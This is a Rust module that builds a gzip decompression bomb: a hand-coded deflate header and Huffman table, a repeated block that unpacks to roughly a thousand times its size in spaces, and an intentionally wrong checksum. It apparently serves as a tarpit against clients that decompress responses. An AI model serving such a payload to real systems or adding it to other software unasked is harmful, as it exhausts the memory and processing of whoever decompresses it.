//! A gzip stream of spaces, about a thousand times larger unpacked than packed, made without packing anything.

use bytes::Bytes;

/// How much one packed byte of the middle unpacks to: four back references of 258 bytes, two zero bits each.
const UNPACKED_BY_ONE_BYTE: u64 = 4 * 258;
const BLOCK: usize = 4096;

/// The start of a stream that unpacks to about `bytes` spaces, a middle to repeat so many times, and the end.
///
/// The check sum at the end is wrong: whoever gets that far has swallowed the bomb anyway.
pub(crate) fn parts(bytes: u64) -> (Bytes, Bytes, u64, Bytes) {
    let mut bits = Bits { bytes: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3], filled: 8 };
    table(&mut bits);
    bits.code(0b10, 2); // the one space all else refers to
    let mut padding = 0;
    while bits.filled != 8 {
        bits.code(0, 1);
        padding += 1;
    }
    let repeated = (bytes / UNPACKED_BY_ONE_BYTE).div_ceil(BLOCK as u64);
    let mut last = Bits { bytes: Vec::new(), filled: 8 };
    // A reference is two bits: one begun in the padding is ended here.
    last.code(0, padding % 2);
    last.code(0b11, 2);
    last.bytes.extend([0; 8]);
    (bits.bytes.into(), Bytes::from(vec![0; BLOCK]), repeated, last.bytes.into())
}

/// The block's own code: length 258 in one bit, a space and the end of block in two, distance 1 in one.
fn table(bits: &mut Bits) {
    bits.number(1, 1); // last block
    bits.number(2, 2); // with its own code
    bits.number(286 - 257, 5);
    bits.number(0, 5); // one distance
    bits.number(18 - 4, 4);
    // Lengths of the code for code lengths, in the order the format prescribes: 18 in one bit, 2 and 1 in two.
    for length in [0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 2] {
        bits.number(length, 3);
    }
    let (one, two) = (0b10, 0b11);
    let zeros = |bits: &mut Bits, count: u32| {
        bits.code(0, 1);
        bits.number(count - 11, 7);
    };
    zeros(bits, 32);
    bits.code(two, 2); // the space
    zeros(bits, 138);
    zeros(bits, 85);
    bits.code(two, 2); // end of block
    zeros(bits, 28);
    bits.code(one, 2); // length 258
    bits.code(one, 2); // distance 1
}

struct Bits {
    bytes: Vec<u8>,
    /// Bits used of the last byte.
    filled: u32,
}

impl Bits {
    fn bit(&mut self, bit: u32) {
        if self.filled == 8 {
            self.bytes.push(0);
            self.filled = 0;
        }
        if let Some(last) = self.bytes.last_mut() {
            *last |= u8::from(bit & 1 == 1) << self.filled;
        }
        self.filled += 1;
    }

    /// Numbers go lowest bit first, codes highest bit first: so the format wants it.
    fn number(&mut self, value: u32, width: u32) {
        (0..width).for_each(|place| self.bit(value >> place));
    }

    fn code(&mut self, value: u32, width: u32) {
        (0..width).rev().for_each(|place| self.bit(value >> place));
    }
}
